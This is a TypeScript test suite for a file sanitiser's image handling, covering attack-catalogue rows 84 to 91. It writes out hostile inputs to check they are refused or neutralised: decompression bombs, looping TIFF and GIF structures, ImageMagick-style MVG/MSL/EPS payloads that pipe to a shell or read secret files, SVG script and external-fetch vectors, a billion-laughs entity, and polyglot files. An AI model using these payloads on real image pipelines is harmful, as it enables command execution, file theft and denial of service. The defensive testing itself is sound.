// Attack catalogue, rows 84 to 91: pictures. Every outcome has been through the checker C1-C3, C6, C7; a canary listens.
import assert from 'node:assert/strict';
import { after, afterEach, before, describe } from 'node:test';
import { crc32, deflateSync } from 'node:zlib';
import { corpus, corpusFiles, row } from '../support/attack-row.ts';
import { printHtml } from '../support/chromium-print.ts';
import { codeSvg, codesPng } from '../support/codes.ts';
import { openCanary, type Canary } from '../support/canary.ts';
import { openSanitiser, type Outcome, type Sanitiser } from '../support/sanitiser.ts';

let sanitiser: Sanitiser;
let canary: Canary;
before(async () => {
  [sanitiser, canary] = await Promise.all([openSanitiser(), openCanary()]);
});
afterEach(async () => assert.deepEqual(await canary.touched(), []));
after(async () => {
  await sanitiser[Symbol.asyncDispose]();
  await canary[Symbol.asyncDispose]();
});

const LIMIT_MS = 60_000;

/** Each file to a picture or pages, or to a refusal with a reason, in bounded time; then an honest picture passes. */
async function each(paths: readonly string[]): Promise<Outcome[]> {
  const outcomes: Outcome[] = [];
  for (const path of paths) {
    const outcome = await sanitiser.file(path.split('/').at(-1) ?? '', await corpus(path));
    assert.match(outcome.state, /^(sanitised|held|refused)$/, path);
    assert.ok(outcome.ms < LIMIT_MS, `${path}: ${outcome.ms} ms`);
    if (outcome.state !== 'sanitised') assert.equal(outcome.files.size, 0, path);
    outcomes.push(outcome);
  }
  assert.equal((await sanitiser.file('p.png', await corpus('image/pngsuite/basn2c08.png'))).state, 'sanitised');
  return outcomes;
}

function chunk(type: string, body: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length, 0);
  head.write(type, 4, 'latin1');
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), body])), 0);
  return Buffer.concat([head, body, sum]);
}

/** A PNG that says it is this large; `more` stands before its data. */
function png(width: number, height: number, data: Buffer, more: Buffer = Buffer.alloc(0)): Buffer {
  const size = Buffer.alloc(13);
  size.writeUInt32BE(width, 0);
  size.writeUInt32BE(height, 4);
  size[8] = 8;
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', size),
    more,
    chunk('IDAT', data),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const small = (more?: Buffer): Buffer =>
  png(
    16,
    16,
    deflateSync(Buffer.from(Array.from({ length: 17 * 16 }, (_, at) => (at % 17 === 0 ? 0 : at & 255)))),
    more,
  );
const texts = (outcome: Outcome): string =>
  [...outcome.files.values()].map((bytes) => bytes.toString('latin1')).join('');

describe('pictures', () => {
  row(
    84,
    'bombs: sides are read first, no more pixels are decoded than the limit, and a mail passes meanwhile',
    async () => {
      for (const [width, height] of [
        [30_000, 30_000],
        [65_535, 65_535],
        [2_147_483_647, 1],
        [1, 2_147_483_647],
        [100_000, 2000],
      ] as const) {
        const [outcome, mail] = await Promise.all([
          sanitiser.file('bomb.png', png(width, height, deflateSync(Buffer.alloc(4 * 1024 * 1024)))),
          sanitiser.mail('From: a@example.com\r\n\r\nmeanwhile\r\n'),
        ]);
        assert.ok(outcome.ms < LIMIT_MS, `${width} × ${height}: ${outcome.ms} ms`);
        assert.match(outcome.state, /^(sanitised|refused)$/);
        assert.match(mail.text, /meanwhile/);
      }
      await each([
        ...corpusFiles('hostile/image-pillow', /^decompression_bomb/),
        'image/image-rs/bad-bmp-Bad_reallybig.bmp',
      ]);
    },
  );

  row(85, 'frames and directories without end: the first, or as many pages as the limit', async () => {
    const frame = Buffer.from('2c00000000010001000002024401003b', 'hex').subarray(0, 15);
    const gif = Buffer.concat([
      Buffer.from('47494638396101000100800000000000ffffff', 'hex'),
      Buffer.from('21ff0b4e45545343415045322e300301000000', 'hex'),
      ...Array.from({ length: 20_000 }, () => frame),
      Buffer.from('3b', 'hex'),
    ]);
    const outcome = await sanitiser.file('frames.gif', gif);
    assert.ok(outcome.ms < LIMIT_MS, `${outcome.ms} ms`);
    // A TIFF whose only directory is followed by itself.
    const tiff = Buffer.alloc(200);
    tiff.write('II*\0', 0, 'latin1');
    tiff.writeUInt32LE(8, 4);
    const entries = [
      [256, 4, 1, 1],
      [257, 4, 1, 1],
      [258, 3, 1, 8],
      [259, 3, 1, 1],
      [262, 3, 1, 1],
      [273, 4, 1, 190],
      [277, 3, 1, 1],
      [278, 4, 1, 1],
      [279, 4, 1, 1],
    ];
    tiff.writeUInt16LE(entries.length, 8);
    for (const [at, [tag = 0, type = 0, count = 0, value = 0]] of entries.entries()) {
      tiff.writeUInt16LE(tag, 10 + at * 12);
      tiff.writeUInt16LE(type, 12 + at * 12);
      tiff.writeUInt32LE(count, 14 + at * 12);
      tiff.writeUInt32LE(value, 18 + at * 12);
    }
    tiff.writeUInt32LE(8, 10 + entries.length * 12);
    const loop = await sanitiser.file('loop.tif', tiff);
    assert.ok(loop.ms < LIMIT_MS, `${loop.ms} ms`);
    await each(['hostile/image-pillow/duplicate_number_of_loops.gif', 'image/tika/testTIFF_multipage.tif']);
  });

  row(86, 'inputs that crashed decoders: a refusal or a picture each, and the next file works', async () => {
    await each(corpusFiles('hostile/image-pillow', /^(?:crash|oom|timeout)-/));
  });

  row(87, 'formats that call programs or read files are refused or shown as text; nothing is called', async () => {
    const url = `http://${canary.host}/x.png`;
    for (const [name, bytes] of [
      [
        'a.mvg',
        `push graphic-context\nviewbox 0 0 640 480\nfill 'url(${url}"|sh ${canary.programPath}")'\npop graphic-context\n`,
      ],
      [
        'a.msl',
        `<?xml version="1.0"?><image><read filename="${url}"/><write filename="${canary.programPath}"/></image>`,
      ],
      ['label:@file.png', `label:@${canary.secretPath}`],
      ['a.eps', `%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%${canary.programPath}) (r) file\n`],
      ['a.jpg', `${url}\n`],
      ['a.png', `@${canary.secretPath}`],
      ['a.xcf', 'gimp xcf file'],
      ['|sh.png', small().toString('latin1')],
    ] as const) {
      const outcome = await sanitiser.file(name, Buffer.from(bytes, 'latin1'));
      assert.ok(!texts(outcome).includes(canary.secret), name);
      for (const file of outcome.files.keys()) assert.match(file, /\.(txt|png|jpg|pdf)$/);
    }
  });

  row(88, 'SVG: drawn without script, network and files, or shown as text, or refused', async () => {
    const url = `http://${canary.host}`;
    for (const body of [
      '<script>evil()</script>',
      `<image href="${url}/a.png" width="9" height="9"/>`,
      `<image xlink:href="file://${canary.secretPath}" width="9" height="9"/>`,
      `<style>@import url(${url}/a.css)</style>`,
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}"/></foreignObject>`,
      '<a id="a"><use href="#a"/><use href="#a"/></a>',
      Array.from({ length: 30 }, (_, i) => `<g id="g${i}"><use href="#g${i + 1}"/><use href="#g${i + 1}"/></g>`).join(
        '',
      ),
    ]) {
      const outcome = await sanitiser.file(
        'x.svg',
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${body}</svg>`,
      );
      assert.ok(outcome.ms < LIMIT_MS);
      assert.ok(!texts(outcome).includes(canary.secret));
      for (const file of outcome.files.keys()) assert.match(file, /\.(txt|png|jpg|pdf)$/);
    }
    const lol = await sanitiser.file(
      'lol.svg',
      `<!DOCTYPE svg [<!ENTITY a "${'lol'.repeat(50)}">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(20)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`,
    );
    assert.ok(lol.ms < LIMIT_MS);
    await each(['hostile/circl-dangerous/Example.svg', 'image/tika/testSVG.svgz']);
  });

  row(89, 'places, names, profiles, comments and thumbnails do not leave', async () => {
    const outcomes = await each([
      'image/pillow/exif_gps.jpg',
      'image/pillow/icc_profile_big.jpg',
      'image/tika/testJPEG_GEO.jpg',
      'image/tika/testJPEG_commented.jpg',
    ]);
    for (const outcome of outcomes)
      assert.doesNotMatch(texts(outcome), /Exif|ICC_PROFILE|GPS|http:\/\/ns\.adobe|Photoshop/);
    const secret = 'PLANTED-IN-A-CHUNK';
    const outcome = await sanitiser.file(
      'c.png',
      small(
        Buffer.concat([
          chunk('tEXt', Buffer.from(`Comment\0${secret}`)),
          chunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${secret}`)),
          chunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.from(secret))])),
        ]),
      ),
    );
    assert.equal(outcome.state, 'sanitised');
    assert.ok(!texts(outcome).includes(secret));
  });

  row(90, 'files of two kinds: only pixels made anew leave, the second face is gone', async () => {
    const evil = `PK\x03\x04<script>evil()</script>%PDF-1.4 MZ ${'second face '.repeat(40)}`;
    for (const bytes of [
      Buffer.concat([small(), Buffer.from(evil, 'latin1')]),
      small(chunk('tEXt', Buffer.from(`a\0${evil}`, 'latin1'))),
      Buffer.concat([await corpus('image/pillow/exif_gps.jpg'), Buffer.from(evil, 'latin1')]),
    ]) {
      const outcome = await sanitiser.file('two.png', bytes);
      assert.match(outcome.state, /^(sanitised|refused)$/);
      assert.doesNotMatch(texts(outcome), /second face|<script/);
    }
  });

  row(91, 'what a QR code says is told as text that nothing opens; in the picture it stays pixels', async () => {
    const poster = await codesPng(400, 400, [{ text: 'https://evil.example/login', x: 40, y: 40, module: 8 }]);
    for (const outcome of [
      await sanitiser.file('qr.png', poster),
      await sanitiser.file('qr.pdf', printHtml(`<p>ご確認ください</p>${codeSvg('https://evil.example/login', '3cm')}`)),
    ]) {
      assert.equal(outcome.state, 'sanitised');
      assert.deepEqual(outcome.parts[0]?.findings, [{ code: 'qr-code', detail: 'hxxps://evil.example/login' }]);
      for (const [name, bytes] of outcome.files) {
        assert.match(name, /\.(png|jpg|pdf)$/);
        assert.doesNotMatch(bytes.toString('latin1'), /https?:|URI/);
      }
    }
  });
});
